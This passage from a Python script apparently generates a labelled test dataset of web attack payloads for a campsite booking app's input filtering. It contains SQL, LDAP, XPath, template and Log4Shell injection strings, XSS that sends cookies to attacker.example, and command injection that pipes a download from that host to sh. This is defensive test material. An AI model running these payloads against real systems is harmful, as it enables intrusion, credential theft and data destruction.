    "note\r\n=cmd|' /C calc'!A0,,,",
    "O'Connor\n\"warden\",\"pin\",\"0000\"",
)

# ---------------------------------------------------------------- ldap-xpath (20)
add("ldap-xpath", "ldap",
    "*)(uid=*))(|(uid=*",
    "warden)(|(password=*))",
    "sam*)(memberOf=cn=admins,ou=groups,dc=campsite,dc=local)",
    "admin)(&)",
    "*)(objectClass=*",
    "jo)(|(objectclass=*)(userPassword=a*))",
    "\\2a)(uid=\\2a",
    "x*))%00",
    "staff)(!(cn=nobody))(cn=*",
    "*))(|(cn=*",
)
add("ldap-xpath", "xpath",
    "' or '1'='1",
    "x' or name()='password' or 'a'='b",
    "pitch14'] | //booking[guest/email | //warden/pin | //*['x",
    "' or count(/*)=1 or 'a'='b",
    "']/../*[1] | //*[contains(.,'pin')]/text()|//*['",
    "' or substring(//warden[1]/password,1,1)='s' and '1'='1",
    "\") or (\"1\"=\"1",
    "yurt' and string-length(//user[1]/pass)>6 and 'x'='x",
    "'] | doc('http://attacker.example/x.xml')//*['",
    "1 or 1=1]/parent::*/child::node()[1",
)

# ---------------------------------------------------------------- generated parts (<10%)
SQLI_POOL = [
    "' OR 'x'='x'-- -",
    "' AND SLEEP(5)-- -",
    "' UNION SELECT email,phone FROM guests-- -",
    "'; DROP TABLE occupancy;--",
    "' AND 1=(SELECT COUNT(*) FROM wardens)--",
]
SQLI_PREFIX = ["pitch 14", "Foxglove", "CMP-2024-1290", "Patel", "yurt Heron", "hardstanding"]
XSS_POOL = [
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=fetch('//attacker.example/'+document.cookie)>",
    "\"><script src=//attacker.example/k.js></script>",
    "<details open ontoggle=alert(1)>",
]
XSS_PREFIX = ["Lovely stay, 5 stars ", "Lost dog lead near pitch 8 ", "Shower block B fixed? ", "Thanks warden! "]
CMDI_POOL = ["; id", "| curl attacker.example/x|sh", "&& cat /etc/passwd", "$(sleep 6)", "`uname -a`"]
CMDI_PREFIX = ["occupancy-2024-08.csv", "pitch14.jpg", "ticket-1182.png", "invoice_5512.pdf"]
SSRF_POOL = ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:8080/admin", "http://10.0.0.2:9200/_search", "http://[::1]/server-status"]
SSRF_PREFIX = ["photo_url=", "ical_import=", "webhook=", "avatar="]
CODE_POOL = ["{{ cycler.__init__.__globals__.os.popen('id').read() }}", "${jndi:ldap://attacker.example/e}", "${T(java.lang.Runtime).getRuntime().exec('id')}"]
CODE_PREFIX = ["Dear guest, ", "Welcome to pitch 14 -- ", "Booking note: "]
TRAV_POOL = ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "../../../../var/www/.env"]
TRAV_PREFIX = ["exports/", "photos/pitch14/", "invoices/2024/"]


def joins(cat, cls, prefixes, pool, n, seen):
    out = []
    tries = 0
    while len(out) < n:
        tries += 1
        assert tries < 10000
        v = rng.choice(prefixes) + rng.choice(pool)
        if v in seen:
            continue
        seen.add(v)
        out.append((cat, cls + "+joined", v))
    return out


def urlenc(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    bp = os.path.join(here, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    seen = set()
    for c, k, v in L:
        assert v not in seen, ("dup", v)
        seen.add(v)
    gen = []
    gen += joins("sqli", "mixed", SQLI_PREFIX, SQLI_POOL, 6, seen)
    for s in ["14' OR '1'='1'-- -", "x' UNION SELECT gate_code FROM barrier--"]:
        v = urlenc(s)
        seen.add(v)
        gen.append(("sqli", "union+urlencode" if "UNION" in s else "boolean+urlencode", v))
    gen += joins("xss", "mixed", XSS_PREFIX, XSS_POOL, 7, seen)
    gen += joins("cmdi", "separator", CMDI_PREFIX, CMDI_POOL, 6, seen)
    gen += joins("ssrf", "internal", SSRF_PREFIX, SSRF_POOL, 3, seen)
    gen += joins("code", "mixed", CODE_PREFIX, CODE_POOL, 4, seen)
    for s in ["../../../../etc/passwd", "..\\..\\..\\boot.ini"]:
        v = urlenc(s)
        seen.add(v)
        gen.append(("traversal", "dotdot+urlencode", v))
    gen += joins("traversal", "dotdot", TRAV_PREFIX, TRAV_POOL, 2, seen)

    rows = []
    order = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
    for cat in order:
        rows += [r for r in L if r[0] == cat]
        rows += [r for r in gen if r[0] == cat]
    assert len(rows) == len(L) + len(gen)
    for c, k, v in rows:
        assert 1 <= len(v) <= 2000, v
        assert v not in benign, ("equals benign", v)
        for ch in v:
            assert ch in "\n\r\t" or ord(ch) >= 32, ("ctrl", v)
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (c, k, v) in enumerate(rows, 1):
            obj = {"id": "hajw-%05d" % i, "category": c, "class": k, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
